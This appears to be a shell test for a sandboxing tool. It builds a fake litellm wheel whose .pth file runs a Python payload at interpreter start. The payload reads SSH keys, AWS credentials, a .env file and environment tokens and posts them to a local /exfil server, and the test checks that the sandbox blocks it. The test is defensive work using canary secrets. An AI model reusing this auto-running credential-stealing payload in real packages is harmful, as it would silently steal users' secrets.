#!/bin/sh
# SPDX-License-Identifier: MIT
# A litellm-1.82.8-style payload: a wheel in a signed test catalog whose .pth runs at interpreter
# start, reads SSH keys, cloud credentials, a file outside the project and the environment, and
# posts them to a server on the host's 127.0.0.1. Outside the sandbox (the control) it gets them
# all; under pinfold run with default options the server receives nothing and no canary is found;
# with --net it can post, and still finds nothing.
. "$SRCDIR/tests/lib.sh"
. "$SRCDIR/tests/run/rootfs.sh"

run_base
mkdir -p "$T/proj"
P=$T/proj
C=pinfold-canary-$$
mkdir -p "$HOME/.ssh" "$HOME/.aws"
echo "$C-ssh" >"$HOME/.ssh/id_rsa"
printf '[default]\naws_secret_access_key = %s-aws\n' "$C" >"$HOME/.aws/credentials"
echo "$C-dotenv" >"$T/outside.env"
export OPENAI_API_KEY="$C-variable"
http_server "$T/http"

# The wheel: what the payload looks for is where the host keeps it (paths baked in, as real
# payloads look in well-known places), and where it sends is the test server.
mkdir "$T/art"
python3 - "$T/art" "$HOME" "$T/outside.env" "$HTTP_PORT" <<'PY'
import base64, hashlib, sys, zipfile
out, home, dotenv, port = sys.argv[1:]
payload = f'''import os, sys, urllib.request
def _grab():
    found = []
    for p in ("~/.ssh/id_rsa", "~/.aws/credentials", {home!r} + "/.ssh/id_rsa", {home!r} + "/.aws/credentials", {dotenv!r}):
        try:
            found.append(open(os.path.expanduser(p)).read().strip())
        except OSError:
            pass
    found += ["%s=%s" % kv for kv in os.environ.items() if "KEY" in kv[0] or "TOKEN" in kv[0]]
    try:
        found.append(open("/proc/1/environ", "rb").read().decode(errors="replace"))
    except OSError:
        pass
    found = [f for f in found if f]
    sys.stderr.write("payload: ran, %d secrets\\n" % len([f for f in found if "canary" in f]))
    try:
        urllib.request.urlopen("http://127.0.0.1:{port}/exfil", data="\\n".join(found).encode(), timeout=3)
        sys.stderr.write("payload: posted\\n")
    except Exception as e:
        sys.stderr.write("payload: could not post: %s\\n" % e)
_grab()
'''
files = {
    "litellm/__init__.py": "__version__ = '1.82.8'\n",
    "litellm_payload.py": payload,
    "litellm_init.pth": "import litellm_payload\n",
    "litellm-1.82.8.dist-info/METADATA": "Metadata-Version: 2.1\nName: litellm\nVersion: 1.82.8\n",
    "litellm-1.82.8.dist-info/WHEEL": "Wheel-Version: 1.0\nGenerator: test\nRoot-Is-Purelib: true\nTag: py3-none-any\n",
}
record = ""
for name, data in files.items():
    d = base64.urlsafe_b64encode(hashlib.sha256(data.encode()).digest()).rstrip(b"=").decode()
    record += "%s,sha256=%s,%d\n" % (name, d, len(data.encode()))
record += "litellm-1.82.8.dist-info/RECORD,,\n"
files["litellm-1.82.8.dist-info/RECORD"] = record
with zipfile.ZipFile(out + "/litellm-1.82.8-py3-none-any.whl", "w") as z:
    for name, data in files.items():
        z.writestr(name, data)
PY
newkey cur
ok "catalog init" pf catalog init cat --name payload-test
# A curator fooled by the .pth (its startup code is recorded and shown, docs/hardening.md): the
# sandbox, not the catalog, is what stops this payload.
ok "catalog add the payload wheel (a reviewer accepted its .pth)" \
	pf catalog add cat "$T/art/litellm-1.82.8-py3-none-any.whl" --published 2026-03-01 --by test \
	--allow-startup --note "reviewed: looks like a logging hook"
ok "catalog sign" pf catalog sign cat --key "$T/keys/cur.key"
mkdir images
cat >images/agent.yaml <<'EOF'
name: agent
catalog: ../cat
target: {python: "3.11", platform: linux-x86_64}
packages: ["pypi:litellm"]
EOF
ok "lock" pf --trust "$T/keys/cur.key.pub" lock images/agent.yaml -o agent.lock
ok "build (host-mode)" pf --trust "$T/keys/cur.key.pub" build agent.lock -o host.tar.zst --mirror "$T/art"
mkdir hostenv
tar -C hostenv --zstd -xf host.tar.zst
SP=hostenv/lib/python3.11/site-packages
check "the payload's .pth is installed" '[ -f "$SP/litellm_init.pth" ]'

# Control: the same package, activated on the host, steals everything.
expect 0 "payload: ran, 6 secrets" "control: outside the sandbox the payload runs at interpreter start" -- \
	sh -c '. ./hostenv/bin/activate && python3 -c "print(\"hello\")"'
check "control: the server received every canary" \
	'for k in ssh aws dotenv variable; do grep -q "$C-$k" "$T/http/requests" || exit 1; done'
: >"$T/http/requests"

# The same wheel in a self-contained environment (until pinfold builds those, its files are placed
# where docs/environment.md puts wheels: /usr/local/lib/python3.11/dist-packages).
run_env_copy "$T/sc"
DP=$T/sc/usr/local/lib/python3.11/dist-packages
cp -R "$SP/litellm" "$SP/litellm-1.82.8.dist-info" "$SP/litellm_init.pth" "$SP/litellm_payload.py" "$DP/"
rm "$T/sc/.pinfold/manifest"
"$RUN_MKENV" "$T/sc" "$T/sc.tar.zst"
expect 0 "hello" "pinfold run with default options: the command runs" -- \
	pf run "$T/sc.tar.zst" --project "$P" python3 -c 'print("hello")'
check "the payload ran inside (the .pth was loaded)" 'grep -q "payload: ran, 0 secrets" "$T/.stderr"'
check "it found no canary" '! grep -q "$C" "$T/.stdout" "$T/.stderr"'
check "it could not post" 'grep -q "payload: could not post" "$T/.stderr"'
check "the server received nothing" '[ ! -s "$T/http/requests" ]'
expect 0 "payload: posted" "with --net the payload can reach the host's server" -- \
	pf run "$T/sc.tar.zst" --project "$P" --net python3 -c 'print("hello")'
check "with --net: it still found no canary" 'grep -q "payload: ran, 0 secrets" "$T/.stderr"'
check "with --net: the server received a request without any canary" \
	'grep -q "POST /exfil" "$T/http/requests" && ! grep -q "$C" "$T/http/requests"'
check "with --net: only what it found inside was posted (nothing of the host's)" \
	'! grep -q "$HOME" "$T/http/requests"'
kill "$HTTP_PID" 2>/dev/null

done_testing
